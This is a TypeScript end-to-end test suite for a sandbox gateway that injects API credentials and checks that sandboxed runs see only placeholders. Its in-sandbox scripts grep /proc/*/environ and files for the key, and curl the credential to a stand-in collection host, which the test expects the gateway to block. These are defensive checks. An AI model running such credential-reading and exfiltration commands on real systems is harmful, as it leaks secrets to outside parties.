import assert from 'node:assert/strict';
import { readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { runEval } from '../../src/eval/index.js';
import { SessionCa } from '../../src/gateway/tls/ca.js';
import { bootstrapImage } from '../../src/sandbox/image/bootstrap.js';
import { leftovers, sessionId, specDir } from './e2e.js';

// A credential end to end: the runner's environment holds the key; the run sees only a placeholder (env,
// /proc/*/environ, files); the stand-in of the model API on loopback receives the real key; the placeholder sent
// to another allowed host is denied; and the key appears in no output at all.

const SECRET = `sk-ant-api03-${'K3y'.repeat(28)}`;
const XI_SECRET = `xi-${'R3al'.repeat(8)}`;
let api: Server;
let port = 0;
const received: string[] = [];
const dirs: string[] = [];

before(async () => {
  await bootstrapImage();
  const ca = await SessionCa.create('test-upstreams');
  api = createServer(
    { SNICallback: (n, cb) => ca.contextFor(n).then((c) => cb(null, c), cb) },
    (req, res) => {
      if (req.url === '/xi') {
        res.end(req.headers['xi-api-key'] === XI_SECRET ? 'xi says hi' : 'bad xi key');
        return;
      }
      received.push(`${req.headers.host} ${req.headers['x-api-key']}`);
      res.end(req.headers['x-api-key'] === SECRET ? 'model says hi' : 'bad key');
    },
  );
  port = await new Promise<number>((r) =>
    api.listen(0, '127.0.0.1', () => r((api.address() as AddressInfo).port)),
  );
  await writeFile('/tmp/paddock-cred-test-ca.pem', ca.certPem);
});
after(async () => {
  api?.close();
  for (const d of dirs) await rm(d, { recursive: true, force: true });
});

async function filesUnder(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const name of await readdir(dir, { recursive: true })) {
    const path = join(dir, name);
    if ((await stat(path)).isFile()) out.push(path);
  }
  return out;
}

test('ANTHROPIC_API_KEY as a credential: the upstream gets the key, the run sees a placeholder, nothing records the key', async () => {
  const script = [
    'set -u',
    // The key to look for, built at run time: this script must not hold it whole.
    `K='${SECRET.slice(0, 20)}''${SECRET.slice(20)}'`,
    'echo "env: $ANTHROPIC_API_KEY"',
    // Every process's environment, and every file the run can read under /sandbox and /tmp.
    `cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c "$K" || true`,
    'echo "$ANTHROPIC_API_KEY" > out/key-as-seen.txt',
    `curl -sS --noproxy '*' -H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com:${port}/v1/messages; echo`,
    `curl -sS --noproxy '*' -H "x-api-key: $ANTHROPIC_API_KEY" -w ' [%{http_code}]' https://other.example.test:${port}/collect; echo`,
    'grep -rl "$K" /sandbox /tmp 2>/dev/null | wc -l',
  ].join('\n');
  const { dir, spec } = await specDir({
    'paddock.yml': [
      'version: 1',
      'run: mkdir -p out && sh run.sh',
      'files: [run.sh]',
      'outputs: ["out/**"]',
      'timeout: 60s',
      'expect: { exit-code: 0, egress: allow-denials }',
      'credentials: { ANTHROPIC_API_KEY: {} }',
      'gateway:',
      '  hosts: { api.anthropic.com: 127.0.0.1, other.example.test: 127.0.0.1 }',
      '  upstream-ca: /tmp/paddock-cred-test-ca.pem',
      'policy:',
      '  version: 1',
      '  network_policies:',
      '    model:',
      '      endpoints:',
      `        - { host: api.anthropic.com, port: ${port} }`,
      `        - { host: other.example.test, port: ${port} }`,
      '      binaries: [{ path: /usr/bin/curl }]',
    ].join('\n'),
    'run.sh': script,
  });
  dirs.push(dir);
  const session = sessionId();
  const lines: string[] = [];
  const log = { info: (l: string) => lines.push(l), warning: (l: string) => lines.push(l) };
  const results = await runEval({
    spec,
    resultsDir: join(dir, 'results'),
    sessionId: session,
    stateDir: join(dir, 'state'),
    env: { ANTHROPIC_API_KEY: SECRET },
    log,
  });
  const run = results.runs[0];
  assert.equal(run?.status, 'passed', JSON.stringify(run));
  const stdout = await readFile(join(dir, 'results', 'runs', run?.id ?? '', 'stdout.log'), 'utf8');
  const [env, inEnviron, model, other, inFiles] = stdout.trim().split('\n');
  assert.match(
    env ?? '',
    /^env: sk-ant-api03-paddock[0-9a-f]+$/,
    'the run sees a placeholder with the provider prefix',
  );
  assert.equal(inEnviron, '0', 'no process environment holds the key');
  assert.equal(model, 'model says hi', 'the upstream got the real key');
  assert.match(
    other ?? '',
    /placeholder of credential ANTHROPIC_API_KEY sent to other\.example\.test.*\[403\]/,
  );
  assert.equal(inFiles, '0', 'no file in the sandbox holds the key');
  assert.deepEqual(
    received.map((r) => r.split(' ')[1] === SECRET),
    [true],
    'only api.anthropic.com was reached, with the key',
  );
  // Every output: results (reports, events, logs, out/), the session state (gateway log, events), progress lines.
  const outputs = [
    ...(await filesUnder(join(dir, 'results'))),
    ...(await filesUnder(join(dir, 'state')).catch(() => [])),
  ];
  assert.ok(outputs.length > 5, outputs.join(', '));
  for (const file of outputs) {
    const text = await readFile(file, 'latin1');
    assert.equal(text.includes(SECRET), false, `${file} holds the key`);
  }
  assert.equal(lines.join('\n').includes(SECRET), false, 'progress lines hold the key');
  assert.equal(JSON.stringify(results).includes(SECRET), false);
  assert.deepEqual(await leftovers(session), { containers: 0, networks: 0, volumes: 0, gateways: 0 });
});

test('a credential naming its own header (headers: [xi-api-key]) gets the key there, and only there', async () => {
  const { dir, spec } = await specDir({
    'paddock.yml': [
      'version: 1',
      'run: sh run.sh',
      'files: [run.sh]',
      'timeout: 60s',
      'expect: { exit-code: 0, egress: allow-denials }',
      'credentials: { XI_KEY: { hosts: [api.xi.test], headers: [xi-api-key] } }',
      'gateway:',
      '  hosts: { api.xi.test: 127.0.0.1 }',
      '  upstream-ca: /tmp/paddock-cred-test-ca.pem',
      'policy:',
      '  version: 1',
      '  network_policies:',
      '    model:',
      `      endpoints: [{ host: api.xi.test, port: ${port} }]`,
      '      binaries: [{ path: /usr/bin/curl }]',
    ].join('\n'),
    'run.sh': [
      `curl -sS --noproxy '*' -H "Xi-Api-Key: $XI_KEY" https://api.xi.test:${port}/xi; echo`,
      `curl -sS --noproxy '*' -H "x-request-id: $XI_KEY" -w ' [%{http_code}]' https://api.xi.test:${port}/xi; echo`,
    ].join('\n'),
  });
  dirs.push(dir);
  const session = sessionId();
  const results = await runEval({
    spec,
    resultsDir: join(dir, 'results'),
    sessionId: session,
    stateDir: join(dir, 'state'),
    env: { XI_KEY: XI_SECRET },
    log: { info: () => undefined, warning: () => undefined },
  });
  const run = results.runs[0];
  assert.equal(run?.status, 'passed', JSON.stringify(run));
  const stdout = await readFile(join(dir, 'results', 'runs', run?.id ?? '', 'stdout.log'), 'utf8');
  const [named, other] = stdout.trim().split('\n');
  assert.equal(named, 'xi says hi', 'the upstream got the key in the header the credential names');
  assert.match(other ?? '', /placeholder of credential XI_KEY in header x-request-id: .*xi-api-key.*\[403\]/);
  assert.deepEqual(await leftovers(session), { containers: 0, networks: 0, volumes: 0, gateways: 0 });
});
